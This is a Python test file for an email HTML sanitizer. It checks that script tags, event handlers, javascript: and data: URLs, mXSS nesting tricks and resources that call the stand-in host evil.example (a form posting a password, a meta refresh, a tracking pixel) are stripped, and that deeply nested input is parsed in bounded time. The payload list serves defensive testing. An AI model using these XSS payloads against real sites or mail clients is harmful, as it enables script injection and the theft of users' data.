"""Can hostile HTML do anything to who looks at it?"""

from __future__ import annotations

import pytest

from tests.channels.conftest import SecondsAtMost
from tests.channels.mails import mail, read
from yingnuo.channels.adapters.mail import html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" jAvascript&#58;alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<style>@import url(//evil.example/x.css)</style>",
        '<p style="background:url(//evil.example/x)">x</p>',
        '<div id="toast" class="modal">x</div>',
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<form action="//evil.example"><input name=password></form>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<base href="//evil.example/">',
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        '<link rel=stylesheet href="//evil.example/x.css">',
        '<img src="https://evil.example/pixel.gif" width=1 height=1>',
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        '<table background="//evil.example/x"><tr><td>x</td></tr></table>',
    ],
)
def test_hostile_html_loses_its_teeth(hostile: str) -> None:
    shown = html.safe(hostile).lower()
    for tooth in (
        "script",
        "onerror=",
        "style",
        "evil.example",
        "<form",
        "<iframe",
        "class=",
        "id=",
        "<input",
        "<meta",
    ):
        assert tooth not in shown.replace("&lt;script&gt;", "").replace("title=", "")


def test_remote_pictures_become_links_and_own_ones_stay() -> None:
    shown = html.safe('<img src="https://cdn.example/a.png" alt="Plan"><img src="cid:p1" alt="Photo">')
    assert '<a href="https://cdn.example/a.png" rel="noopener noreferrer nofollow">[Plan]</a>' in shown
    assert '<img src="cid:p1" alt="Photo">' in shown
    assert 'src="https' not in shown


def test_links_cannot_reach_back() -> None:
    assert html.safe('<a href="https://x.example" target="_blank" onclick="x()">x</a>') == (
        '<a href="https://x.example" rel="noopener noreferrer nofollow">x</a>'
    )


def test_text_of_html_keeps_lines_quotes_and_links() -> None:
    source = "<p>Dear&nbsp;all,</p><ul><li>one<li>two</ul><a href='https://x.example/y'>here</a><blockquote>old<br>words</blockquote>"
    assert html.to_text(source) == "Dear all,\n\n- one\n- two\n\nhere <https://x.example/y>\n\n> old\n> words"


def test_a_mail_of_html_alone_has_text_and_quotation() -> None:
    source = (
        "<div>还是不制冷</div><div>------------------&nbsp;原始邮件&nbsp;------------------</div>"
        '<div>发件人: "售后" &lt;s@shop.example&gt;;</div>'
    )
    found = read(mail(source, "Content-Type: text/html; charset=utf-8"))
    assert (found.text, found.quoted.startswith("-----")) == ("还是不制冷", True)
    assert "还是不制冷" in found.html


@pytest.mark.parametrize("piece", ["<div>", "<b>", "<table>", "<a href=x><p>", "<blockquote>x", "<", "<!--", "&"])
def test_hostile_nesting_takes_bounded_time(piece: str, seconds_at_most: SecondsAtMost) -> None:
    with seconds_at_most(10):
        read(mail(piece * (1_000_000 // len(piece)), "Content-Type: text/html"))
